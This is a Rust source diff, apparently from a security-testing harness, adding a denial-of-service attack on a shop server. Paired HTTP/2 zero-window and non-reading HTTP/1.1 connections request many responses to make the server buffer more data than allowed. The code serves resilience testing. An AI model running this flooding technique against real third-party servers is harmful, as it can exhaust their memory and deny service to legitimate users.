@@ -1,0 +1,80 @@
+//! Clients that ask for many answers and take none of them: over HTTP/2 their window is 0, over HTTP/1.1 they do not
+//! read.
+//!
+//! After a while the clients over HTTP/2 open their windows. The attack succeeds if they then receive more than the shop
+//! may keep.
+
+use std::{
+    sync::{
+        Arc,
+        atomic::{AtomicU64, Ordering::Relaxed},
+    },
+    time::Duration,
+};
+
+use tokio::time::sleep;
+
+use super::Attacker;
+use crate::wire::{Connection, Http2, frames};
+
+/// The connections, half of them over HTTP/2.
+pub const CONNECTIONS: u32 = 16;
+/// The number of answers for which a connection asks.
+const ANSWERS: u32 = 250;
+/// A public answer of some 30 kB.
+const PATH: &str = "/openapi.json";
+const PAUSE: Duration = Duration::from_secs(10);
+/// The time for which a connection takes nothing.
+const TAKES_NOTHING: Duration = Duration::from_secs(4);
+/// The maximum number of bytes that the shop may have kept: 16 MiB, and 4 KiB of each answer in its buffers. All answers
+/// over HTTP/2 have 58 MB.
+const MAY_BE_KEPT: u64 = 40_000_000;
+
+pub async fn hold(attacker: Arc<Attacker>) {
+    let received = Arc::new(AtomicU64::default());
+    attacker
+        .repeat(CONNECTIONS, PAUSE, move |attacker, number| {
+            let received = received.clone();
+            async move {
+                match number % 2 {
+                    0 => over_http2(&attacker, received).await,
+                    _ => over_http1(&attacker).await,
+                }
+            }
+        })
+        .await;
+}
+
+async fn over_http2(attacker: &Arc<Attacker>, received: Arc<AtomicU64>) {
+    let Ok(connection) = Http2::open(attacker, &attacker.entrances.order).await else { return };
+    let fields = [(":method", "GET"), (":scheme", "http"), (":path", PATH), (":authority", &connection.authority)];
+    let block = frames::block(&fields);
+    let requests = (0..ANSWERS).flat_map(|number| frames::headers(number * 2 + 1, &block, true));
+    let requests: Vec<u8> = frames::window_of_streams(0).into_iter().chain(requests).collect();
+    attacker.has_sent(ANSWERS.into());
+    let mut steps = [(Duration::ZERO, requests), (TAKES_NOTHING, frames::open_windows())].into_iter();
+    let count = |size: u64| {
+        let before = received.fetch_add(size, Relaxed);
+        if (MAY_BE_KEPT.saturating_sub(size)..MAY_BE_KEPT).contains(&before) {
+            attacker.has_succeeded();
+        }
+    };
+    let write = || {
+        let step = steps.next();
+        async move {
+            let (pause, bytes) = step?;
+            sleep(pause).await;
+            Some(bytes)
+        }
+    };
+    connection.drive_counting(write, count).await;
+}
+
+async fn over_http1(attacker: &Arc<Attacker>) {
+    let target = &attacker.entrances.order;
+    let Ok(mut connection) = Connection::open(attacker, target).await else { return };
+    let request = format!("GET {PATH} HTTP/1.1\r\nHost: {target}\r\n\r\n");
+    attacker.has_sent(ANSWERS.into());
+    let _ = connection.write(request.repeat(ANSWERS as usize).as_bytes()).await;
+    sleep(TAKES_NOTHING + PAUSE).await;
+}
